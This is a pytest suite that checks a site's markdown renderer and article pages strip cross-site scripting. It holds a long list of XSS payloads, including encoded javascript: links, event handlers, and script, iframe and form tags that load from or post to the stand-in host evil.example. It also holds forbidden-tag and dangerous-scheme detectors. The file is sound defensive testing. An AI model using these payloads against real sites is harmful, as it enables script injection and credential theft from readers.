"""Nothing an editor types, however spelled or encoded, can run in a reader's browser."""

import json
import re

import pytest
from bs4 import BeautifulSoup

from education.rendering import render_markdown
from tests.support.pages import parse

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "object", "embed", "style", "form", "input", "button",
    "textarea", "select", "link", "meta", "base", "svg", "math", "applet", "template",
}  # fmt: skip
DANGEROUS_SCHEME = re.compile(r"^(javascript|vbscript|data|livescript|file):", re.IGNORECASE)

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<svg onload="alert(1)"><circle/></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<body onload="alert(1)">',
    '<div onclick="alert(1)" onmouseover=alert(1)>hover</div>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    "<style>body { display: none }</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    "<template><script>alert(1)</script></template>",
    "<!--<script>alert(1)</script>-->",
    '"><script>alert(1)</script>',
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](<javascript:alert(1)>)",
    "[click](javascript&#58;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java%0ascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![image](javascript:alert(1))",
    '![image](x" onerror="alert(1))',
    "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "```\n<script>alert(1)</script>\n```",
    "<div>\n\n*markdown* <script>alert(1)</script>\n\n</div>",
    '[a](https://ok.example "title" onclick="alert(1)")',
]


def assert_harmless(html):
    soup = BeautifulSoup(html, "html.parser")
    for element in soup.find_all(True):
        assert element.name not in FORBIDDEN_TAGS, html
        for attribute, value in element.attrs.items():
            assert not attribute.lower().startswith("on"), html
            assert attribute.lower() not in {"style", "srcdoc", "formaction"}, html
            if attribute in {"href", "src", "action", "data"}:
                cleaned = re.sub(r"[\s\x00-\x1f]", "", str(value))
                assert not DANGEROUS_SCHEME.match(cleaned), html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_in_markdown_never_reaches_the_html(payload):
    assert_harmless(render_markdown(f"## Heading\n\nText before.\n\n{payload}\n\nText after.").html)


@pytest.fixture
def head_of_a_plain_article(client, make_article):
    plain = make_article(title="Plain", summary="Plain.", body="Plain.")
    return [element.name for element in parse(client.get(plain.get_absolute_url())).head("*")]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_in_title_summary_and_body_is_harmless_on_the_page(
    client, make_article, head_of_a_plain_article, payload
):
    article = make_article(title=payload[:200], summary=payload[:300], body=payload)

    response = client.get(article.get_absolute_url())

    assert response.status_code == 200
    soup = parse(response)
    assert_harmless(str(soup.select_one("article")))
    assert [element.name for element in soup.head("*")] == head_of_a_plain_article
    structured = json.loads(soup.select_one('script[type="application/ld+json"]').string)
    assert structured["headline"] == payload[:200]


def test_script_text_is_removed_not_shown():
    html = render_markdown("Before <script>alert('x')</script> after").html

    assert "alert" not in html
    assert "Before" in html and "after" in html


@pytest.mark.parametrize(
    "source",
    [
        "![tracker](https://evil.example/pixel.png)",
        "![tracker](//evil.example/pixel.png)",
        '<img src="HTTP://evil.example/pixel.png" alt="x">',
        '<img src="ht\ttps://evil.example/pixel.png" alt="x">',
        '<img src="&#104;ttps://evil.example/pixel.png" alt="x">',
        '<img src="/\\evil.example/pixel.png" alt="x">',
    ],
)
def test_an_image_from_another_site_loses_its_address(source):
    html = render_markdown(source).html

    assert "evil.example" not in html


@pytest.mark.parametrize("src", ["/media/images/a-480.webp", "/static/img/leg.svg", "leg.svg"])
def test_an_image_from_this_site_keeps_its_address(src):
    assert f'src="{src}"' in render_markdown(f"![A leg]({src})").html
